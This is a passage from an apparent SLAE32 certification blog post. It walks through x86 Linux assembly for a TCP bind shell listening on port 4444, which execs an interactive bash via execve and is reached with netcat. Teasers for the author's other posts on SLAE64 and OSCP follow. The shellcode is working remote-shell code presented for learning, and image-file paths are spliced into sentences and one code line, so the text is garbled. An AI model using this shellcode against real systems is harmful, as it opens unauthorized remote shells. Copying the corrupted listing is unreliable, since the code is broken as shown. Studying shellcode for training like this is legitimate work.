At this point in the program's execution, our socket is setup, it is bound, it is listening on port 4444/TCP, and accepting connections on It is now time we call EXECVE to run /bin////bash -i. One might ask why I decided to use the -i option with /bin/bash. This is a personal preference really. It definitely adds a few more bytes to the length of the shell code and if we are aiming for the smallest shell code size possible, this will not win any awards. What this will do, however, is allow us to have a visual cue when we connect with NETCAT because the -i option means that /bin/bash will run as an interactive shell.


     ; now it's time to launch our shell
     ; program using execve. I prefer
     ; /bin/bash we'll use /bin////bash
     ; execve is 0xb (11)
     ; int execve(const char *filename, char *const argv[],
     ;          char *const envp[])

     xor eax, eax        ; clean out eax
     push eax            ; need a null byte for execve parameters
     push 0x68736162     ; hsab
     push 0x2f2f2f2f     ; ////
     push 0x6e69622f     ; nib/
     mov ebx, esp        ; save stack pointer in ebx
     push eax            ; Null onto stack
     push word 0x692d    ; "-i" parameter to /bin/bash
     mov esi, esp        ; save the argument pointer
     push eax            ; null byte terminator
     push esi            ; pointer to "-i" parameter to /bin/bash
     push ebx            ; points to 0x00hsab////nib/
     mov ecx, esp        ; store pointer to 0x00hsab////nib/ into ecx
     xor edx, edx        ; NULL as last parameter
     mov al, 0xb         ; execveint 0x80            ; call it


     call call_bind
     portnum dw 0x5c11   ; port 4444 (0x115c) don't forget little endian

One important part of this code is to point out how we setup the stack for our -i option to /bin/bash. If we look carefully at EXECVE we see that the second parameter is a pointer to the ARGV[] array. The below image shows how our stack is setup to make sure we have the correct setup for the second parameter to EXECVE which will get stored in the ECX register.

As we run the compiled version,we connect to port 4444/TCP using NETCAT and receive a shell.

Excellent, our program works as expected. For those interested, here's how long our shellcode is in bytes.

Finally, here is the actual shellcode. The last two (2) bytes are the port making it easily configurable. I wrote a python script iptohex.pyto help with the task of converting a port and IP address into hex in little endian ( You may notice that the port 4444 in hex is 0x115c. The reason it is like this in the shellcode output is because I used the little endian format within the assembly code itself.Thank you for reading this blog! I hope you actually learned something and can use this information to better your knowledge of shellcode and 32-bit assembly on Linux. I highly recommend you give the SLAE32 course a try. Full details can be found below.

This blog post has been created for completing the requirements of the SecurityTube Linux Assembly Expert certification:

Student ID: SLAE-744

Part 2 - Assignment 2Popular posts from this blog

SLAE/SLAE64 Course Review

After recently finishing both the SLAE ( and SLAE64 ( courses available through SecurityTube Training, and earning both certifications, I thought I would write a review of the training itself. Personally, I chose these course as a way to learn Assembly in preparation for the Crack The Perimeter (CTP) course and OSCE certification. After taking the Pentesting With Kali (PWK) class and earning the OSCP, I knew I needed to fill some gaps in my knowledge, and specifically with C and Assembly programming. Seeing that there aren't many training offerings that aim to teach Assembly specific to penetration testing and shellcoding, I gave SLAE a try.

  If you don't care about the certification itself, you can obtain all of SecurityTube's videos for a small monthly fee through Pentes…

SLAE64 - Assignment 1

Following completion of the SLAE32 course (, I decided to take advantage of the Pentester Academy account we have at work to continue the training with SLAE64 ( So, we'll delve into each assignment like we did before and because it's part of the certification challenge.

Assignment 1 requirements are as follows:

Create a Shell_Bind_TCP shellcodeBinds to a portNeeds a "Passcode"If Passcode is correct then Execs ShellRemove 0x00 from the Bind TCP Shellcode discussed

PWK and the OSCP Review

Back in 2014 I started down the Pentesting With Kali (PWK) course about a month after passing the CISSP exam, for which I self studied for about 4 months. What can I say, I was a glutton for punishment but it was well worth it. I started off with 90 days, but due to a crazy work schedule, wound up extending it another 30 for a total of 120 days of labaccess. I'm not as young as I would like to think I am and have other important responsibilities as Dad and Husband which I consider "Priority 1". So, my time to study, perform thehomework assignments, go through the modules, videos, and lab work were limited to 2 hours in the morning before work(typically 5am until 7am), and then again for a few hours after everyone was asleep in the house (typically 9pm until 11pm or Midnight). Weekends I could usually spend up to 6 hours on Saturdays andSundays studying which helped tremendously.

Other people have already done a great job atreviewing the PWK course and the OSCP chall…